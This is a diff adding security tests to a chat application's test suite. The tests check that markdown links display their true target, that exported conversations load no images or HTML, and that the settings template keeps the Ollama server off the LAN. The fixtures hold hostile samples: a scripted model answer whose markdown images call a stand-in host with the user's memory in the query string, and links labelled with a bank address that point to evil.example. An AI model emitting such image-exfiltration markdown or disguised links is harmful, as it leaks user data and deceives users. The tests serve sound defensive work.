@@ -4,10 +4,12 @@ service do (issue 23): each attack is tried for real and must be refused or abso
 from __future__ import annotations
 
 import asyncio
+import html as html_lib
 import http.server
 import json
 import multiprocessing
 import os
+import re
 import socket
 import statistics
 import subprocess
@@ -18,15 +20,18 @@ from collections.abc import Iterator
 from contextlib import contextmanager
 from dataclasses import dataclass
 from pathlib import Path
+from urllib.parse import urlsplit
 
 import httpx
 import pytest
+from markdown_it import MarkdownIt
 from starlette.middleware import Middleware
 
 from app.access import FAILURES_ALLOWED, MAX_BODY_BYTES
 from app.embedded_searxng import free_port
 from app.fetch import ExtractionProcess, FetchFailed, Page, fetch_page
 from tests.browser import open_page
+from tests.chat_client import new_conversation, send
 from tests.conftest import ROOT, ChatService, chat_env, run_cli
 from tests.fakes.llm_server import Reply
 from tests.fakes.pages import ARTICLE, ARTICLE_TITLE
@@ -460,3 +465,64 @@ def test_a_page_slow_to_extract_is_stopped_and_the_next_page_is_read(pages):
     assert "took over 2 s: stopped" in stopped
     assert page.title == ARTICLE_TITLE
     assert first != second  # the slow page's worker was killed, a new one read the next
+
+
+# -- a link must go where it says ----------------------------------------------------------------
+
+
+def test_the_page_shows_the_real_target_of_a_link_named_after_another_address(page):
+    page.evaluate(
+        """async () => {
+          const m = await import('/static/js/markdown.js');
+          const c = document.createElement('div');
+          c.id = 'links';
+          c.append(m.renderMarkdown(
+            '[https://bank.example/login](https://evil.example/x?d=1) ' +
+            '[www.bank.example](https://evil.example/) [the docs](https://evil.example/) ' +
+            '[bank.example/a](https://www.bank.example/b) ![](https://evil.example/p.png?d=1)'));
+          document.body.append(c);
+        }"""
+    )
+    links = page.evaluate(
+        "[...document.querySelectorAll('#links a')].map((a) => [a.textContent, a.href])"
+    )
+    assert links == [
+        ["https://evil.example/x?d=1", "https://evil.example/x?d=1"],
+        ["https://evil.example/", "https://evil.example/"],
+        ["the docs", "https://evil.example/"],  # a text that names no address stays
+        ["bank.example/a", "https://www.bank.example/b"],  # the same host stays
+    ]
+    assert page.evaluate("document.querySelectorAll('#links img').length") == 0
+
+
+HOSTILE_ANSWER = (
+    "Done ![](https://a.example/p.png?d=the-users-memory) and ![x][r] and"
+    ' <img src="https://a.example/q.png?d=1"> and [https://bank.example/login](https://a.example/x)'
+    " and [the docs](https://docs.example/) and `![kept as code](x)`.\n\n"
+    "[r]: https://a.example/r.png?d=2\n"
+)
+
+
+def test_the_export_loads_nothing_and_its_links_go_where_they_say(chat, llm):
+    """Rendered by a CommonMark viewer, the export of a hostile answer has no image, no
+    HTML, and no link whose text names another address than its target."""
+    llm.script(Reply(text=HOSTILE_ANSWER))
+    conversation = new_conversation(chat)
+    send(chat, conversation, "hi ![](https://a.example/u.png)")
+    exported = httpx.get(f"{chat.url}/api/conversations/{conversation}/export").text
+    html = MarkdownIt("commonmark").render(exported)
+    assert "<img" not in html
+    assert "&lt;img" in html  # shown as text
+    assert "<code>![kept as code](x)</code>" in html
+    links = re.findall(r'<a href="([^"]*)">(.*?)</a>', html)
+    assert ("https://docs.example/", "the docs") in links
+    for target, text in links:
+        if text.startswith("http"):
+            assert urlsplit(html_lib.unescape(text)).hostname == urlsplit(target).hostname
+
+
+def test_the_settings_template_never_suggests_opening_the_model_server_to_the_lan():
+    """An Ollama on 0.0.0.0 answers anyone on the network, with no password."""
+    template = (ROOT / ".env.example").read_text()
+    assert "OLLAMA_HOST=0.0.0.0" not in template and "--host 0.0.0.0" not in template
+    assert "OLLAMA_HOST=172.17.0.1" in template
